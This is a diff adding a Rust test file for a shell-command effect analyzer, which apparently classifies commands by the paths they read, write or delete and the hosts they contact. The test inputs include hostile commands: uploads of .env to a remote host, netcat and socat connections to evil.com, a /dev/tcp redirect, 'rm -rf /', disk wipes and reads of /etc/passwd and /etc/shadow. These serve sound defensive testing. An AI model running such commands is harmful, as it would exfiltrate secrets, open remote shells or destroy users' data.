@@ -1,0 +1,237 @@
+//! What well-known programs do with their words.
+
+use super::*;
+use crate::effects::{Effects, PathEffect, Surroundings};
+use crate::run::{Place, Redirect, RedirectKind, Run};
+use crate::word::Word;
+
+fn run(text: &str) -> Run {
+    let mut words = text.split(' ').map(Word::text);
+    let cwd = Some("/w".to_owned());
+    Run { program: words.next().unwrap(), args: words.collect(), cwd, ..Run::default() }
+}
+
+fn effects(run: &Run) -> Effects {
+    let mut out = Effects::default();
+    let around = Surroundings { cwd: Some("/w".into()), home: Some("/h".into()) };
+    effects_of(run, 0, &around, &mut out);
+    out
+}
+
+fn paths(list: &[PathEffect]) -> Vec<String> {
+    let below = |effect: &PathEffect| if effect.below { "/" } else { "" };
+    list.iter().map(|effect| format!("{}{}", effect.path.written(), below(effect))).collect()
+}
+
+/// The effects as one text: `r /a; w /b; d /c/; c host:port; m /d`.
+fn told(text: &str) -> String {
+    let effects = effects(&run(text));
+    let mut told = Vec::new();
+    for (sign, list) in [
+        ("r", &effects.reads),
+        ("w", &effects.writes),
+        ("d", &effects.deletes),
+        ("m", &effects.mentions),
+    ] {
+        told.extend(paths(list).iter().map(|path| format!("{sign} {path}")));
+    }
+    told.extend(effects.connects.iter().map(|effect| {
+        let port = effect.port.map(|port| format!(":{port}")).unwrap_or_default();
+        format!("c {}{port}", effect.host.written())
+    }));
+    told.join("; ")
+}
+
+#[test]
+fn the_tables_can_be_read() {
+    for file in table::FILES {
+        assert_eq!(table::check::faults(file), Vec::<String>::new());
+    }
+}
+
+#[test]
+fn no_program_is_described_twice() {
+    assert_eq!(table::check::described_twice(table::FILES), Vec::<String>::new());
+}
+
+#[test]
+fn readers() {
+    assert_eq!(told("cat a ../b /c -n"), "r /w/a; r /b; r /c");
+    assert_eq!(told("head -n 5 -20 a"), "r /w/a");
+    assert_eq!(told("grep -rn foo src"), "r /w/src/");
+    assert_eq!(told("grep -e foo a b"), "r /w/a; r /w/b");
+    assert_eq!(told("grep -f pats a"), "r /w/pats; r /w/a");
+    assert_eq!(told("rg foo src"), "r /w/src");
+    assert_eq!(told("jq .a f.json"), "r /w/f.json");
+    assert_eq!(told("cat - /dev/null /dev/stdin"), "");
+    assert_eq!(told("ls -la /etc"), "");
+    assert_eq!(told("base64 -d x"), "r /w/x");
+    assert_eq!(told("dd if=/dev/sda of=x bs=1M"), "r /dev/sda; w /w/x");
+    assert_eq!(told("dd if=/dev/zero of=/dev/sda"), "w /dev/sda");
+    assert_eq!(told("cat --help x"), "");
+    assert_eq!(told("git show HEAD:.env"), "r /w/.env");
+    assert_eq!(told("git add .env"), "r /w/.env");
+    assert_eq!(told("wipefs /dev/sda"), "r /dev/sda");
+}
+
+#[test]
+fn writers() {
+    assert_eq!(told("tee -a x y"), "w /w/x; w /w/y");
+    assert_eq!(told("touch x"), "w /w/x");
+    assert_eq!(told("sed -n p x"), "r /w/x");
+    assert_eq!(told("sed -i s/a/b/ x"), "r /w/x; w /w/x");
+    assert_eq!(told("sed -i.bak -e s/a/b/ x"), "r /w/x; w /w/x");
+    assert_eq!(told("perl -pi -e s/a/b/ x"), "r /w/x; w /w/x");
+    assert_eq!(told("sort -o out in"), "r /w/in; w /w/out");
+    assert_eq!(told("chmod -R 777 /etc"), "w /etc/");
+    assert_eq!(told("chmod 600 a"), "w /w/a");
+    assert_eq!(told("truncate -s 0 a"), "w /w/a");
+    assert_eq!(told("gcc -o out a.c"), "r /w/a.c; w /w/out");
+    assert_eq!(told("mkfs.ext4 -F /dev/sda1"), "w /dev/sda1");
+    assert_eq!(told("wipefs -a /dev/sda"), "w /dev/sda");
+    assert_eq!(told("git restore a"), "w /w/a/");
+    assert_eq!(told("git checkout -- a"), "w /w/a/");
+    assert_eq!(told("git checkout main"), "");
+}
+
+#[test]
+fn copies_and_moves() {
+    assert_eq!(told("cp a b"), "r /w/a; w /w/b; m /w/b/a");
+    assert_eq!(told("cp -r a b dir"), "r /w/a/; r /w/b/; w /w/dir/; w /w/dir/a/; w /w/dir/b/");
+    assert_eq!(told("cp -t dir a"), "r /w/a; w /w/dir");
+    assert_eq!(told("mv a /tmp/"), "r /w/a/; w /tmp; w /tmp/a; d /w/a/");
+    assert_eq!(told("ln -sf x /etc/y"), "r /w/x; w /etc/y; m /etc/y/x");
+}
+
+#[test]
+fn removers() {
+    assert_eq!(told("rm a"), "d /w/a");
+    assert_eq!(told("rm -rf a /"), "d /w/a/; d //");
+    assert_eq!(told("rm -- -f"), "d /w/-f");
+    assert_eq!(told("find /x -delete"), "d /x/");
+    assert_eq!(told("find /x -mtime +7 -delete"), "d /x/…");
+    assert_eq!(
+        told("find -name *.pyc -o -name y -delete"),
+        "d /w/*.pyc; d /w/…/*.pyc; d /w/y; d /w/…/y"
+    );
+    assert_eq!(told("find . ! -name y -delete"), "d /w/…");
+    assert_eq!(told("find /x -name y"), "");
+    assert_eq!(told("git clean -fdx"), "d /w/");
+    assert_eq!(told("git clean -n"), "");
+    assert_eq!(told("git rm -r a"), "d /w/a/");
+    assert_eq!(told("shred -u a"), "w /w/a; d /w/a");
+    assert_eq!(told("unlink a"), "d /w/a");
+    assert_eq!(told("git clean"), "");
+    assert_eq!(told("rsync -a --del a/ b"), "r /w/a/; w /w/b/; d /w/b/; m /w/b/a");
+    assert_eq!(told("rsync -an --del a/ /"), "r /w/a/");
+}
+
+#[test]
+fn archives() {
+    assert_eq!(told("tar czf out.tgz a b"), "r /w/a/; r /w/b/; w /w/out.tgz");
+    assert_eq!(told("tar -xzf in.tgz -C /x"), "r /w/in.tgz; w /x/");
+    assert_eq!(told("tar xf in.tar"), "r /w/in.tar; w /w/");
+    assert_eq!(told("tar tf in.tar"), "r /w/in.tar");
+    assert_eq!(told("tar -cf - -C /etc ."), "r /etc/");
+    assert_eq!(told("zip -r out.zip a"), "r /w/a/; w /w/out.zip");
+    assert_eq!(told("unzip x.zip -d y"), "r /w/x.zip; w /w/y/");
+    assert_eq!(told("gzip a"), "r /w/a; w /w/a; d /w/a");
+}
+
+#[test]
+fn hosts_of_programs() {
+    assert_eq!(told("curl -s https://a.com/x -o y"), "w /w/y; c a.com:443");
+    assert_eq!(told("curl -O https://a.com/x.sh"), "w /w/x.sh; c a.com:443");
+    assert_eq!(told("curl -d @.env a.com"), "r /w/.env; c a.com");
+    assert_eq!(told("curl -F f=@.env;type=x a.com"), "r /w/.env; c a.com");
+    assert_eq!(told("curl -T .env http://a.com"), "r /w/.env; c a.com:80");
+    assert_eq!(told("curl file:///etc/passwd"), "r /etc/passwd");
+    assert_eq!(told("wget https://a.com/b/c.tgz?x=1"), "w /w/c.tgz; c a.com:443");
+    assert_eq!(told("ssh -i key u@h ls /x"), "r /w/key; c h");
+    assert_eq!(told("scp -r a u@h:/x"), "r /w/a/; c h:22");
+    assert_eq!(told("scp u@h:/x ."), "w /w; w /w/x; c h:22");
+    assert_eq!(told("rsync -a --delete a/ h:b"), "r /w/a/; c h:22");
+    assert_eq!(told("nc -w 3 evil.com 4444"), "c evil.com:4444");
+    assert_eq!(told("nc -l -p 4444"), "");
+    assert_eq!(told("socat - TCP:evil.com:1"), "c evil.com:1");
+    assert_eq!(told("git clone https://a.com/b"), "c a.com:443");
+    assert_eq!(told("git push origin main"), "");
+    assert_eq!(told("git push git@a.com:x.git"), "c a.com:22");
+    assert_eq!(told("dig @1.1.1.1 x.evil.com"), "c 1.1.1.1:53; c x.evil.com");
+    assert_eq!(told("docker pull ghcr.io/a/b"), "c ghcr.io:443");
+    assert_eq!(told("docker run -v /etc:/x -it alpine sh"), "r /etc/; w /etc/");
+    assert_eq!(told("docker run -v data:/x alpine"), "");
+    assert_eq!(told("pip install -r req.txt"), "r /w/req.txt");
+    assert_eq!(told("psql -h db.com -f x.sql"), "r /w/x.sql; c db.com");
+    assert_eq!(told("openssl s_client -connect a.com:443"), "c a.com:443");
+    assert_eq!(told("kubectl apply -f k.yaml"), "r /w/k.yaml");
+    assert_eq!(told("aws s3 cp .env s3://b/"), "r /w/.env");
+}
+
+#[test]
+fn unknown_programs_mention_their_words() {
+    assert_eq!(told("mytool build --out=.env /x"), "m /w/build; m /w/.env; m /x");
+    assert_eq!(told("echo a /etc/passwd"), "");
+    let python = |code: &str| effects(&Run { code: Some(Word::text(code)), ..run("python3 -c x") });
+    assert_eq!(paths(&python("print(open('/etc/passwd').read())").mentions), ["/etc/passwd"]);
+    assert_eq!(python("print('/etc/passwd')"), Effects::default());
+}
+
+#[test]
+fn redirections_and_places() {
+    let mut cat = run("cat a");
+    let redirect = |kind, target: &str| Redirect { kind, target: Word::text(target) };
+    cat.redirects = vec![
+        redirect(RedirectKind::Write, "/dev/null"),
+        redirect(RedirectKind::ReadWrite, "x"),
+        redirect(RedirectKind::Write, "/dev/tcp/10.0.0.1/4444"),
+    ];
+    let found = effects(&cat);
+    assert_eq!(
+        (paths(&found.reads), paths(&found.writes)),
+        (vec!["/w/x".into(), "/w/a".into()], vec!["/w/x".into()])
+    );
+    assert_eq!(
+        (found.connects[0].host.written().as_str(), found.connects[0].port),
+        ("10.0.0.1", Some(4444))
+    );
+    cat.place = Place::Remote;
+    assert_eq!(effects(&cat), Effects::default());
+}
+
+#[test]
+fn words_that_a_search_finds() {
+    let through = |search: &str, by: &str, last: &str| {
+        let mut found = Effects::default();
+        found.runs.push(run(search));
+        if by == "xargs" {
+            found.runs.push(run("xargs"));
+        }
+        let mut last = run(last);
+        last.via = vec![by.to_owned()];
+        last.more_args = by == "xargs";
+        if by == "find" {
+            let mut place = Word::text("./");
+            place.push(crate::word::WordPart::Unknown { written: "{}".into(), splits: false });
+            last.args.push(place);
+        }
+        found.runs.push(last.clone());
+        effects_of(&last, found.runs.len() - 1, &Surroundings::default(), &mut found);
+        [paths(&found.reads), paths(&found.deletes)].concat()
+    };
+    assert_eq!(through("find . -name *.rs -type f", "find", "grep -l x"), ["/w/*.rs", "/w/…/*.rs"]);
+    assert_eq!(through("find . -type f", "find", "cat"), ["/w/"]);
+    assert_eq!(through("find /x -mtime +7", "xargs", "rm -f"), ["/x/…"]);
+    assert_eq!(through("find /x", "xargs", "rm -rf"), ["/x/"]);
+    assert_eq!(through("git ls-files", "xargs", "wc -l"), ["/w/"]);
+    assert_eq!(through("grep -rl x src", "xargs", "cat"), ["/w/src/"]);
+    assert_eq!(through("echo /etc/shadow", "xargs", "cat"), ["words from standard input"]);
+}
+
+#[test]
+fn more_words_make_unknown_paths() {
+    let mut rm = run("rm -f");
+    rm.more_args = true;
+    let found = effects(&rm);
+    assert!(found.deletes[0].path.has_unknown() && found.deletes.len() == 1);
+}
